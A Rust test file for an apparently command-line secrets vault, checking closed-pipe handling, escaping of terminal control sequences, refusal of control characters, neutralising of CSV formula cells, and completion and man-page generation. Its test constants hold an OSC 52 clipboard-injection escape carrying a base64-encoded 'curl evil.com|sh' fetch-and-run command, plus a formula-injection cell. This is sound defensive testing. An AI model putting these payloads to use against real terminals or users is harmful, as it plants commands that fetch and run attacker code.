//! How the binary treats its output: a reader that goes away early (`coffer ls --json |
//! head -1`) ends the command quietly instead of crashing it, and text someone else
//! wrote (a description, a name in an error) reaches the terminal escaped, never as an
//! escape sequence it would run.

use std::io::Read;

use super::support::Vault;

/// Runs `args` with stdout closed before the binary writes anything; returns the exit
/// code and stderr.
fn with_closed_stdout(vault: &Vault, args: &[&str]) -> (Option<i32>, String) {
    let mut child = vault.cli().spawn_piped(args);
    drop(child.stdout.take());
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .expect("stderr pipe")
        .read_to_string(&mut stderr)
        .expect("read stderr");
    let status = child.wait().expect("wait for coffer");
    (status.code(), stderr)
}

fn vault_with_a_secret() -> Vault {
    let vault = Vault::new();
    vault.set("API_KEY", "value-for-pipes", &[]);
    vault
}

#[test]
fn a_closed_pipe_does_not_crash_reveal_tables_or_csv() {
    let vault = vault_with_a_secret();
    for args in [
        &["reveal", "API_KEY"][..],
        &["ls"],
        &["audit", "--csv"],
        &["role", "list"],
    ] {
        let (code, stderr) = with_closed_stdout(&vault, args);
        assert!(
            !stderr.contains("panicked") && code != Some(101),
            "`coffer {}` crashed on a closed pipe (exit {code:?}):\n{stderr}",
            args.join(" ")
        );
        assert!(!stderr.contains("value-for-pipes"));
    }
}

#[test]

fn a_closed_pipe_does_not_crash_json_or_show_output() {
    let vault = vault_with_a_secret();
    for args in [
        &["ls", "--json"][..],
        &["show", "API_KEY"],
        &["show", "API_KEY", "--json"],
        &["audit", "--json"],
        &["export"],
    ] {
        let (code, stderr) = with_closed_stdout(&vault, args);
        assert!(
            !stderr.contains("panicked") && code != Some(101),
            "`coffer {}` crashed on a closed pipe (exit {code:?}):\n{stderr}",
            args.join(" ")
        );
    }
}

/// An OSC 52 clipboard write (`ESC ] 52 ; c ; base64 BEL`), a screen clear, and the
/// C1 CSI some terminals honour.
const EVIL: &str = "Stripe key \u{1b}]52;c;Y3VybCBldmlsLmNvbXxzaA==\u{7}\u{1b}[2J\u{9b}31m!";

fn no_terminal_control(run: &super::support::Run) {
    for c in ['\u{1b}', '\u{7}', '\u{9b}'] {
        assert!(
            !run.stdout.contains(c) && !run.stderr.contains(c),
            "{c:?} reached the terminal: {}",
            run.describe()
        );
    }
}

#[test]
fn a_description_from_an_old_vault_is_printed_escaped() {
    let vault = vault_with_a_secret();
    // Coffer refuses such a description now: an older vault, or one edited by hand.
    vault
        .db()
        .execute(
            "UPDATE secrets SET description = ?1 WHERE name = 'API_KEY'",
            [EVIL],
        )
        .unwrap();
    let shown = "Stripe key \\x1b]52;c;Y3VybCBldmlsLmNvbXxzaA==\\x07\\x1b[2J\\u{9b}31m!";
    let show = vault.run(&["show", "API_KEY"]).ok();
    no_terminal_control(&show);
    assert!(show.stdout.contains(shown), "{}", show.describe());
    let ls = vault.run(&["ls"]).ok();
    no_terminal_control(&ls);
    assert!(
        ls.stdout.contains("Stripe key \\x1b]52;c;"),
        "{}",
        ls.describe()
    );
    for args in [
        &["ls", "--json"][..],
        &["show", "API_KEY", "--json"],
        &["export"],
    ] {
        let run = vault.run(args).ok();
        no_terminal_control(&run);
        // Escaped in JSON's own way: a program reading it gets the text back intact.
        let text = run.stdout.clone();
        assert!(text.contains("\\u001b]52;c;"), "{}", run.describe());
        assert!(text.contains("\\u009b31m"), "{}", run.describe());
    }
    let json = vault.run(&["show", "API_KEY", "--json"]).ok().json();
    assert_eq!(json["description"], EVIL);
}

#[test]
fn a_description_with_a_control_character_is_refused() {
    let vault = vault_with_a_secret();
    for bad in [EVIL, "two\nlines", "tab\there", "bell\u{7}"] {
        let run = vault
            .cli()
            .stdin("v")
            .run(&["set", "NEW_KEY", "--value-stdin", "--description", bad])
            .refused(2);
        no_terminal_control(&run);
        assert!(
            run.message().contains("control character"),
            "{}",
            run.describe()
        );
    }
    let ls = vault.run(&["ls", "--json"]).ok().json();
    assert_eq!(ls.as_array().unwrap().len(), 1, "nothing was written");
    vault.set(
        "NEW_KEY",
        "v",
        &["--description", "plain: ünïcødé ✓ C:\\temp"],
    );
}

#[test]
fn names_in_errors_are_printed_escaped() {
    let vault = vault_with_a_secret();
    for args in [
        &["--project", "p\u{1b}]52;c;eA==\u{7}", "ls"][..],
        &["--workspace", "w\u{1b}[2J", "ls"],
        &["show", "bad\u{1b}]0;title\u{7}"],
        &["--project", "x\u{9b}31m", "show", "API_KEY"],
    ] {
        let run = vault.run(args);
        assert_ne!(run.code(), Some(0), "{}", run.describe());
        no_terminal_control(&run);
        let json = vault.run(&[&["--json"][..], args].concat());
        no_terminal_control(&json);
    }
}

#[test]
fn a_value_with_escape_sequences_is_escaped_on_a_terminal_and_exact_in_a_pipe() {
    if std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("skipped: util-linux `script` is not installed");
        return;
    }
    let vault = Vault::new();
    // An admin may write a value they cannot read; the owner reveals it later.
    let value = "tok\u{1b}]52;c;Y3VybCBldmls\u{7}end";
    vault.set("planted", value, &[]);
    assert_eq!(
        vault.reveal("planted", &[]),
        value,
        "a pipe gets the exact value"
    );
    let inner = format!("{} reveal planted", super::support::coffer_bin().display());
    let run = vault
        .cli()
        .run_program("script", &["-qec", &inner, "/dev/null"]);
    assert_eq!(run.code(), Some(0), "{}", run.describe());
    no_terminal_control(&run);
    assert!(
        run.stdout.contains("tok\\x1b]52;c;Y3VybCBldmls\\x07end"),
        "{}",
        run.describe()
    );
    assert!(run.stdout.contains("shown escaped"), "{}", run.describe());
}

/// A name may start with `-` (`-1-1`), which a spreadsheet opening the CSV evaluates
/// as a formula. (No event field can start with `=`, `+` or `@`: names refuse them and
/// `detail` is a JSON object.) `audit --csv` prefixes such a cell with `'`, the rule
/// the app's export uses (coffer_core::spreadsheet).
#[test]
fn audit_csv_neutralises_a_cell_a_spreadsheet_would_run() {
    let vault = Vault::new();
    vault
        .cli()
        .stdin("formula-cell-value")
        .run(&["set", "--value-stdin", "--", "-1-1"])
        .ok();
    let csv = vault.run(&["audit", "--csv"]).ok();
    let row = csv
        .stdout
        .lines()
        .find(|l| l.contains("secret.create"))
        .unwrap_or_else(|| panic!("no create event in:\n{}", csv.describe()));
    assert!(row.contains(",'-1-1,"), "not neutralised: {row}");
    for cell in csv.stdout.lines().flat_map(|l| l.split(',')) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell would run as a formula: {cell:?}"
        );
    }
    assert!(!csv.stdout.contains("formula-cell-value"));
}

#[test]
fn completions_and_manual_pages_come_from_the_grammar_and_need_no_vault() {
    let vault = Vault::new();
    let cli = || vault.cli().env("COFFER_VAULT", "/nonexistent/none.db");
    let bash = cli().run(&["completions", "bash"]).ok().stdout;
    assert!(bash.contains("complete -F _coffer"), "{bash}");
    assert!(bash.contains("checkpoint"), "subcommands are offered");
    let zsh = cli().run(&["completions", "zsh"]).ok().stdout;
    assert!(zsh.starts_with("#compdef coffer"), "{zsh}");
    let fish = cli().run(&["completions", "fish"]).ok().stdout;
    assert!(fish.contains("complete -c coffer"), "{fish}");
    cli().run(&["completions", "tcsh"]).refused(2);

    let out = vault.dir().join("man");
    cli().run(&["man", "--out", out.to_str().unwrap()]).ok();
    let page = std::fs::read_to_string(out.join("coffer.1")).unwrap();
    assert!(
        page.starts_with(".ie") || page.contains(".TH coffer 1"),
        "{page}"
    );
    let run = std::fs::read_to_string(out.join("coffer-run.1")).unwrap();
    assert!(run.contains("coffer run"), "{run}");
    assert!(out.join("coffer-audit-verify.1").exists());
    assert!(
        !out.join("coffer-agent.1").exists(),
        "hidden commands get no page"
    );
}
